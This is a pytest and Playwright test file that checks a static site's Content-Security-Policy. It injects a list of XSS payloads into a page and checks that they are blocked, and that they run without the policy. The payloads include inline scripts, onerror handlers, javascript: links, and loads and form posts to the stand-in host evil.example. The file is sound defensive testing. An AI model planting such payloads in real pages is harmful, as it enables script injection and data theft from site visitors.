"""The Content-Security-Policy: were every other fence gone, what a page holds would still not run or load."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from edition.render.content_policy import content_policy, with_content_policy

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
ATTACKS = {
    "a script": "<script>window.PWNED=1</script>",
    "a script from elsewhere": "<script src='https://evil.example/x.js'></script>",
    "a handler": "<img src=x onerror='window.PWNED=1'>",
    "an address that is a script": "<a id=bad href='javascript:window.PWNED=1'>x</a>",
    "a frame": "<iframe srcdoc='<script>parent.PWNED=1</script>'></iframe>",
    "a picture from elsewhere": "<img src='https://evil.example/x.png'>",
    "a style": "<style>body { background: url(https://evil.example/x.png) }</style>",
    "a style sheet from elsewhere": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "a form": "<form id=bad action='https://evil.example/'><button>x</button></form>",
    "a base": "<base href='https://evil.example/'><img src='x.png'>",
    "an object": "<object data='https://evil.example/x'></object>",
}


def test_every_page_has_one_policy_before_anything_it_governs(site: Path) -> None:
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 300
    for path in pages:
        html = path.read_text(encoding="utf-8")
        assert len(META.findall(html)) == 1, path
        assert re.search(r"<head[^>]*>\s*<meta http-equiv", html), path


def test_nothing_is_let_in_but_files_of_the_site_and_the_themes_own_lines(site: Path) -> None:
    rules = dict(
        rule.split(" ", 1) for rule in META.search((site / "index.html").read_text(encoding="utf-8"))[1].split("; ")
    )
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    allowed = {word for name, value in rules.items() for word in value.split()} - {"'none'", "'self'", "data:"}
    assert all(re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", word) for word in allowed)
    assert rules["img-src"] == "'self' data:"
    assert "data:" not in rules["script-src"]


def test_no_page_names_another_to_be_loaded_ahead(site: Path) -> None:
    """Firefox takes what comes next for a page to load, and reports that the policy forbids it."""
    ahead = re.compile(r'<link\b[^>]*\brel="?[^">]*\b(?:next|prefetch|prerender|preconnect|dns-prefetch)\b')
    assert [path.name for path in site.rglob("*.html") if ahead.search(path.read_text(encoding="utf-8"))] == []


def attacked(site: Path, folder: Path, attack: str, *, policy: bool) -> Path:
    """A page of the site with an attack in its words, its policy kept or taken out."""
    html = (site / "about.html").read_text(encoding="utf-8")
    assert '<article class="md-content__inner' in html
    html = re.sub(r'(<article class="md-content__inner[^>]*>)', lambda at: at[0] + attack, html, count=1)
    if not policy:
        html = META.sub("", html)
    (folder / "page.html").write_text(html, encoding="utf-8")
    return folder / "page.html"


def harm(chromium: Browser, page: Path) -> list[str]:
    """What a page with an attack does: that it ran, or what it asked for elsewhere."""
    context = chromium.new_context()
    asked: list[str] = []
    context.route(re.compile("^https?:"), lambda route: (asked.append(route.request.url), route.abort()))
    tab = context.new_page()
    tab.goto(page.as_uri())
    tab.evaluate(
        "() => { const bad = document.getElementById('bad');"
        "if (bad) bad.requestSubmit ? bad.requestSubmit() : bad.click(); }"
    )
    tab.wait_for_timeout(300)
    if tab.url.startswith("file:") and tab.evaluate("window.PWNED"):
        asked.append("it ran")
    context.close()
    return asked


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_that_passed_every_fence_does_nothing(
    chromium: Browser, site: Path, tmp_path: Path, attack: str
) -> None:
    assert harm(chromium, attacked(site, tmp_path, attack, policy=True)) == []


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_without_the_policy_it_would(chromium: Browser, site: Path, tmp_path: Path, attack: str) -> None:
    assert harm(chromium, attacked(site, tmp_path, attack, policy=False)) != []


def test_a_script_is_let_in_by_its_very_letters() -> None:
    others = "<script type='application/json'>{}</script><script src='b.js'></script>"
    page = f"<html><head></head><script>a()</script>{others}</html>"
    assert content_policy(page).count("sha256-") == 1
    assert content_policy(page) != content_policy(page.replace("a()", "b()"))
    assert with_content_policy(page).startswith('<html><head><meta http-equiv="Content-Security-Policy"')


def test_the_script_of_live_reload_is_let_in_only_while_serving() -> None:
    assert "'unsafe-inline'" in content_policy("<head></head>", serving=True)
    assert "'unsafe-inline'" not in content_policy("<head></head>")


def test_search_and_maps_work_under_the_policy(page: Page, site: Path) -> None:
    page.goto((site / "debates/what-fine-tuning-changes.html").as_uri())  # the page fixture fails on any refusal
    page.get_by_role("searchbox", name="Search").click()
    page.keyboard.type("simulacra")
    page.locator("a.found").first.wait_for()
